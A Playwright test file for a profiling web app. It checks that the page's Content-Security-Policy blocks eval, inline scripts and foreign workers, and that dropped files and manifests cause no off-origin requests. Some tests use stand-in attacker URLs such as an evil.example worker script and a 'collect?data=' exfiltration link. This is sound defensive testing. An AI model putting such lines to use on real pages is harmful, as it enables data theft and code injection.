// Nothing a user drops leaves the machine: the built page's Content-Security-Policy is the one in
// tools/csp-plugin.ts and holds (no eval, no inline script, no foreign worker), dropped files make
// no request beyond the page's own origin, and a manifest cannot send the page elsewhere.
import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cspPolicy, scriptHash } from '../../tools/csp-plugin.ts';
import { SAMPLES_DIR } from '../samples.ts';
import { eventually, startHarness, type Harness } from './harness.ts';

let h: Harness;
let work: string;
beforeAll(async () => {
  h = await startHarness();
  work = mkdtempSync(join(tmpdir(), 'peakscope-privacy-'));
});
afterAll(async () => {
  await h?.close();
  rmSync(work, { recursive: true, force: true });
});

/** Every request and WebSocket the page makes from now on. */
function recordTraffic(page: Page): { requests: Request[]; sockets: string[] } {
  const traffic = { requests: [] as Request[], sockets: [] as string[] };
  page.on('request', (r) => void traffic.requests.push(r));
  page.on('websocket', (ws) => void traffic.sockets.push(ws.url()));
  return traffic;
}

describe('the Content-Security-Policy of the built page', () => {
  it('is the policy of tools/csp-plugin.ts, right after the charset', async () => {
    const { page } = await h.open('#tab=samples');
    const metas = await page
      .locator('head meta')
      .evaluateAll((ms) =>
        ms.map((m) => [m.getAttribute('charset') ?? m.getAttribute('http-equiv'), m.getAttribute('content')]),
      );
    expect(metas[0]).toEqual(['utf-8', null]);
    // The tool's policy plus the hash of the page's one inline script, the preboot.
    const preboot = await page.locator('head script:not([src])').textContent();
    expect(metas[1]).toEqual([
      'Content-Security-Policy',
      cspPolicy(false).replace("script-src 'self'", `script-src 'self' ${scriptHash(preboot!)}`),
    ]);
    expect(cspPolicy(false)).not.toMatch(/unsafe-inline|unsafe-eval|ws:/);
    await page.close();
  });

  it('stops eval, new Function, an inline script and a worker from another origin', async () => {
    const { page } = await h.open('#tab=samples');
    const outcome = await page.evaluate(async () => {
      const attempt = (f: () => unknown) => {
        try {
          f();
          return 'ran';
        } catch (e) {
          return (e as Error).name;
        }
      };
      const w = window as unknown as { inlineRan?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.body.append(script);
      await new Promise((r) => setTimeout(r, 50));
      return {
        eval: attempt(() => (0, eval)('1 + 1')),
        fn: attempt(() => new Function('return 1')()),
        inline: w.inlineRan === true ? 'ran' : 'blocked',
        worker: attempt(() => new Worker('https://evil.example/w.js')),
        dataWorker: await new Promise<string>((resolve) => {
          // A data: worker is refused after construction: it never gets to post its message.
          const dw = new Worker('data:text/javascript,postMessage(1)');
          dw.onmessage = () => resolve('ran');
          dw.onerror = () => resolve('blocked');
          setTimeout(() => resolve('blocked'), 2000);
        }),
      };
    });
    expect(outcome).toEqual({
      eval: 'EvalError',
      fn: 'EvalError',
      inline: 'blocked',
      worker: 'SecurityError',
      dataWorker: 'blocked',
    });
    await page.close();
  });
});

describe('dropped files', () => {
  it('make no request beyond the page’s own origin, and nothing but GETs of the app itself', async () => {
    const { page, log } = await h.open('', { width: 1400, height: 900 });
    await page.locator('#flame g.frame').first().waitFor({ timeout: 20_000 }); // the default sample loads first
    const traffic = recordTraffic(page);
    const run = join(work, 'run');
    cpSync(join(SAMPLES_DIR, 'huge-collection', 'before'), join(run, 'before'), { recursive: true });
    cpSync(join(SAMPLES_DIR, 'programs', 'huge-collection', 'before'), join(run, 'sources'), { recursive: true });
    await page.locator('input[type=file][webkitdirectory]').setInputFiles(run);
    await page
      .locator('input[type=file]')
      .first()
      .setInputFiles([
        join(SAMPLES_DIR, 'event-logs', 'monorepo.json-lines.zst'),
        join(SAMPLES_DIR, 'monorepo', 'heap-summary-allocated', 'profile.csv'),
        join(SAMPLES_DIR, 'monorepo', 'time-flame', 'flame.src'),
      ]);
    await eventually(async () => (await page.locator('.set').count()) >= 3, 20_000, 'the dropped sets');
    await page.locator('.set .set-name', { hasText: 'run/before' }).click();
    await page.locator('#findings .finding').first().waitFor({ timeout: 20_000 });
    for (const key of ['2', '6', '7', '8', '1']) await page.keyboard.press(key);
    await page.waitForTimeout(500);
    expect(log.foreignRequests).toEqual([]);
    expect(traffic.sockets).toEqual([]);
    const offending = traffic.requests.filter(
      (r) =>
        r.method() !== 'GET' ||
        !r.url().startsWith(`${h.origin}/`) ||
        !/^\/(assets|samples)\//.test(new URL(r.url()).pathname),
    );
    expect(offending.map((r) => `${r.method()} ${r.url()}`)).toEqual([]);
    await page.close();
  });

  it('a manifest cannot list a file on another origin (the page fetches only what the user named)', async () => {
    const manifest = `${h.origin}/evil/manifest.json`;
    const { page } = await h.open('#tab=samples');
    const traffic = recordTraffic(page);
    await page.route(manifest, (route) =>
      route.fulfill({ json: { files: [{ path: 'x.src', url: 'https://evil.example/collect?data=1' }] } }),
    );
    await page.evaluate((u) => (location.hash = `#url=${encodeURIComponent(u)}`), manifest);
    await page
      .locator('.notice.error', { hasText: "is not the manifest's own origin" })
      .first()
      .waitFor({ timeout: 10_000 });
    expect(traffic.requests.map((r) => r.url()).filter((u) => !u.startsWith(h.origin))).toEqual([]);
    await page.close();
  });
});
